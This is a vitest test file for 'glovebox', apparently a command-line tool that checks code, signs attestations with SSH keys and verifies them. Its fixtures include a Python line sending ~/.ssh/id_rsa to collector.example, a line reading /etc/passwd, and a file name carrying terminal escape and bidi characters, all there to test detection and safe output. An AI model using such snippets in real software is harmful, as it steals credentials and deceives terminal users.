import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { Command, CommanderError } from 'commander';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Statement } from '../attest/statement.ts';
import { GloveboxError } from '../error.ts';
import type { Report } from '../report/report.ts';
import { attestCommand } from './attest.ts';
import { addAttestOptions, addVerifyOptions } from './attest-options.ts';
import { serveCommand } from './serve.ts';
import { addServeOptions } from './serve-options.ts';
import { verifyCommand } from './verify.ts';

const MAIN = fileURLToPath(new URL('main.ts', import.meta.url));
const folder = mkdtempSync(join(tmpdir(), 'glovebox-attest-'));
afterAll(() => rmSync(folder, { recursive: true }));

function glovebox(args: readonly string[], env: Record<string, string> = {}) {
  const { status, stdout, stderr } = spawnSync(process.execPath, [MAIN, ...args], {
    cwd: join(folder, env.GLOVEBOX_TEST_FOLDER ?? ''),
    env: { ...process.env, NO_COLOR: '1', GLOVEBOX_NO_CACHE: '1', ...env },
    encoding: 'utf8',
  });
  return { status, stdout, stderr };
}

/** What is said where a command fails, without a process of its own. */
async function failure(args: readonly string[]): Promise<string> {
  const program = new Command().exitOverride().configureOutput({ writeErr: () => {} });
  const { signal } = new AbortController();
  const sub = (name: string) => program.command(name).exitOverride();
  addAttestOptions(sub('attest').argument('<path>')).action(
    async (path, options) => void (await attestCommand(path, options, signal)),
  );
  addVerifyOptions(sub('verify').argument('[path]')).action(
    async (path, options) => void (await verifyCommand(path, options)),
  );
  addServeOptions(sub('serve')).action(async (options) => void (await serveCommand(options, signal)));
  try {
    await program.parseAsync([...args], { from: 'user' });
  } catch (error) {
    if (error instanceof GloveboxError) return `${error.message}\n${error.remedy}`;
    if (error instanceof CommanderError) return error.message;
    throw error;
  }
  return 'nothing failed';
}

function statementIn(file: string): Statement {
  const { payload } = JSON.parse(readFileSync(join(folder, file), 'utf8')) as { payload: string };
  return JSON.parse(Buffer.from(payload, 'base64').toString()) as Statement;
}

beforeAll(() => {
  mkdirSync(join(folder, 'app'));
  mkdirSync(join(folder, '.glovebox'));
  writeFileSync(join(folder, 'app/main.py'), 'import tool\nprint(tool.greeting())\n');
  writeFileSync(join(folder, 'app/tool.py'), 'def greeting():\n    return "hello"\n');
  execFileSync('ssh-keygen', [
    '-q',
    '-t',
    'ed25519',
    '-N',
    'correct horse',
    '-a',
    '2',
    '-C',
    'ada',
    '-f',
    join(folder, 'key'),
  ]);
  writeFileSync(
    join(folder, '.glovebox/allowed_signers'),
    `ada@example.com ${readFileSync(join(folder, 'key.pub'), 'utf8')}`,
  );
});

const PASSPHRASE = { GLOVEBOX_KEY_PASSPHRASE: 'correct horse' };

describe('glovebox attest and verify', () => {
  it('sign a verdict with the key one has, and hold what is deployed against it', () => {
    const attested = glovebox(['attest', 'app', '--key', 'key', '--format', 'json'], PASSPHRASE);
    expect(attested).toMatchObject({ status: 0, stderr: '' });
    const { file, digest, keys } = JSON.parse(attested.stdout) as {
      file: string;
      digest: string;
      keys: { publicKey: string }[];
    };
    expect(file).toBe(`.glovebox/attestations/${digest.slice('sha256:'.length)}.json`);
    expect(readFileSync(join(folder, 'key.pub'), 'utf8')).toContain(keys[0]?.publicKey);
    const { predicate } = statementIn(file);
    expect(predicate).toMatchObject({
      decision: 'allow',
      depth: 'standard',
      isolation: [{ backend: 'jail', runs: 1, probed: { seccomp: 2, capabilities: '0' } }],
    });
    // The digest that anybody can compute.
    const list = execFileSync(
      'sh',
      ['-c', "find . -type f | sed 's|^./||' | LC_ALL=C sort | xargs -d '\\n' sha256sum | sha256sum"],
      { cwd: join(folder, 'app'), encoding: 'utf8' },
    );
    expect(`sha256:${list.split(' ')[0]}`).toBe(digest);

    expect(glovebox(['verify', 'app', '--max-age', '1d'])).toMatchObject({
      status: 0,
      stdout: expect.stringMatching(/^verified {2}allow, risk 0, signed by ada@example.com\n/),
    });
    expect(glovebox(['verify', '--digest', digest])).toMatchObject({ status: 0 });
    expect(glovebox(['verify', 'app', '--policy', `sha256:${predicate.policy.digest.sha256}`])).toMatchObject({
      status: 0,
    });
    writeFileSync(join(folder, 'strict.yaml'), 'thresholds: { review: 1, block: 2 }\n');
    expect(glovebox(['verify', 'app', '--policy', 'strict.yaml'])).toMatchObject({
      status: 1,
      stdout: expect.stringMatching(/^refused {3}different-policy/),
    });

    writeFileSync(join(folder, 'app/tool.py'), 'import os\n');
    const changed = glovebox(['verify', 'app', '--format', 'json']);
    expect(changed.status).toBe(1);
    expect(JSON.parse(changed.stdout)).toMatchObject({
      verified: false,
      reason: 'files-changed',
      changes: { changed: ['tool.py'], added: [], removed: [] },
    });
    writeFileSync(join(folder, 'app/tool.py'), 'def greeting():\n    return "hello"\n');
  });

  it('sign a stored report about the same files alone, with the images that were built of them', () => {
    const report = glovebox(['check', 'app', '--depth', 'quick', '--format', 'json', '--no-policy']).stdout;
    writeFileSync(join(folder, 'report.json'), report);
    const yesterday = new Date(Date.now() - 86_400_000);
    utimesSync(join(folder, 'report.json'), yesterday, yesterday);
    const image = 'a'.repeat(64);
    const args = [
      'attest',
      'app',
      '--key',
      'key',
      '--report',
      'report.json',
      '--subject',
      `registry.example/app@sha256:${image}`,
      '--output',
      'image.json',
    ];
    expect(glovebox(args, PASSPHRASE)).toMatchObject({ status: 0, stderr: '' });
    const { predicate } = statementIn('image.json');
    expect(predicate).toMatchObject({
      depth: 'quick',
      examinedAt: yesterday.toISOString(),
      engine: { version: expect.any(String) },
    });
    const verify = ['verify', '--digest', `sha256:${image}`, '--attestations', 'image.json'];
    expect(glovebox(verify)).toMatchObject({ status: 1, stdout: expect.stringContaining('too-shallow') });
    expect(glovebox([...verify, '--depth', 'quick'])).toMatchObject({ status: 0 });
    writeFileSync(join(folder, 'other.py'), 'print(1)\n');
    expect(glovebox(['attest', 'other.py', ...args.slice(2)], PASSPHRASE)).toMatchObject({
      status: 2,
      stderr: expect.stringMatching(/the report is about sha256:/),
    });
  });

  it('sign a block too, which no gate lets through', () => {
    mkdirSync(join(folder, 'evil'));
    const code =
      "import urllib.request, pathlib\nurllib.request.urlopen('http://collector.example/', data=(pathlib.Path.home() / '.ssh/id_rsa').read_bytes())\n";
    writeFileSync(join(folder, 'evil/main.py'), code);
    expect(glovebox(['attest', 'evil', '--key', 'key', '--depth', 'quick'], PASSPHRASE)).toMatchObject({
      status: 1,
      stdout: expect.stringMatching(/^attested {2}block/),
    });
    expect(glovebox(['verify', 'evil', '--depth', 'quick', '--decision', 'review'])).toMatchObject({
      status: 1,
      stdout: expect.stringMatching(/^refused {3}decision: the verdict is block/),
    });
  });

  it('say who accepted what a verdict rests on, why and until when, and take that along when it is theirs to say', () => {
    mkdirSync(join(folder, 'shop/app'), { recursive: true });
    mkdirSync(join(folder, 'shop/.glovebox'));
    const list = readFileSync(join(folder, '.glovebox/allowed_signers'), 'utf8');
    writeFileSync(join(folder, 'shop/.glovebox/allowed_signers'), list);
    writeFileSync(join(folder, 'shop/app/main.py'), "print(open('/etc/passwd').read())\n");
    const at = { ...PASSPHRASE, GLOVEBOX_TEST_FOLDER: 'shop' };
    const [rule] = (JSON.parse(glovebox(['check', 'app', '--depth', 'quick', '--format', 'json'], at).stdout) as Report)
      .findings;
    const expires = new Date(Date.now() + 20 * 86_400_000).toISOString().slice(0, 10);
    const accept = [
      'override',
      'add',
      `${rule?.rule}@main.py:1`,
      'app',
      '--depth',
      'quick',
      '--key',
      '../key',
      '--reason',
      'it only counts them',
      '--expires',
      expires,
    ];
    expect(glovebox(accept, at)).toMatchObject({ status: 0 });
    expect(glovebox(['attest', 'app', '--depth', 'quick', '--key', '../key'], at)).toMatchObject({ status: 0 });
    const verified = glovebox(['verify', 'app', '--depth', 'quick'], at);
    expect(verified).toMatchObject({
      status: 0,
      stdout: expect.stringContaining(`accepted  ${rule?.rule} by ada@example.com until ${expires}`),
    });
    expect(verified.stdout).toContain('it only counts them');
    // The exceptions come with the keys that sign them here.
    const whole = glovebox(['attest', '.', '--depth', 'quick', '--key', '../key', '--output', '../whole.json'], at);
    expect(whole.stderr).toContain('the overrides in . are not obeyed');
    expect(statementIn('whole.json').predicate.overrides).toEqual([]);
    glovebox(
      ['attest', '.', '--depth', 'quick', '--key', '../key', '--output', '../whole.json', '--own-overrides'],
      at,
    );
    expect(statementIn('whole.json').predicate.overrides).toMatchObject([{ by: 'ada@example.com' }]);
  });

  it('do not take the word of a list that lies in what it is about', () => {
    const { status, stdout, stderr } = glovebox(['verify', '.']);
    expect({ status, stdout }).toEqual({ status: 2, stdout: '' });
    expect(stderr).toMatch(/lies in \., for which it should vouch[\s\S]*--trusted/);
  });

  it.each([
    [['verify'], /needs a path or a digest/],
    [['verify', 'APP', '--digest', `sha256:${'a'.repeat(64)}`], /only one of them/],
    [['verify', '--digest', 'sha256:short'], /64 hex digits/],
    [['verify', 'APP', '--max-age', 'long'], /7d/],
    [['verify', 'APP', '--min-engine', 'new'], /0\.2\.0/],
    [['verify', 'APP', '--trusted', 'nowhere'], /cannot read the list of keys nowhere/],
    [['verify', 'APP', '--trusted', 'LIST', '--attestations', 'nowhere'], /cannot read the attestations nowhere/],
    [['verify', 'nowhere', '--trusted', 'LIST'], /there is no nowhere/],
    [['attest', 'APP', '--key', 'nowhere'], /no private key nowhere[\s\S]*ssh-keygen/],
    [['attest', 'APP', '--key', 'KEY'], /has a passphrase[\s\S]*GLOVEBOX_KEY_PASSPHRASE/],
    [['attest', 'APP', '--key', 'OPEN'], /open to others[\s\S]*chmod 600/],
    [['attest', 'APP'], /--key/],
    [['attest', 'APP', '--key', 'KEY', '--subject', 'app:latest'], /with its digest/],
    [['serve'], /--admission/],
    [['serve', '--admission'], /--trusted/],
    [['serve', '--admission', '--exempt-namespace', 'Kube*'], /name of a namespace/],
  ])('%j is an error with a remedy', async (args, message) => {
    const open = join(folder, 'open.pem');
    writeFileSync(open, readFileSync(join(folder, 'key')));
    chmodSync(open, 0o644);
    const named: Record<string, string> = {
      APP: join(folder, 'app'),
      KEY: join(folder, 'key'),
      OPEN: open,
      LIST: join(folder, '.glovebox/allowed_signers'),
    };
    expect(await failure(args.map((arg) => named[arg] ?? arg))).toMatch(message);
  });

  it('write names of files so that a terminal cannot take them for commands', () => {
    mkdirSync(join(folder, 'odd'));
    writeFileSync(join(folder, 'odd/main.py'), 'print(1)\n');
    glovebox(['attest', 'odd', '--key', 'key', '--depth', 'quick'], PASSPHRASE);
    writeFileSync(join(folder, 'odd/\u001b[2J\u202e.py'), '');
    const { status, stdout } = glovebox(['verify', 'odd', '--depth', 'quick']);
    expect({ status, stdout }).toEqual({ status: 1, stdout: expect.stringContaining('added: \\e[2J\\u202e.py') });
  });
});
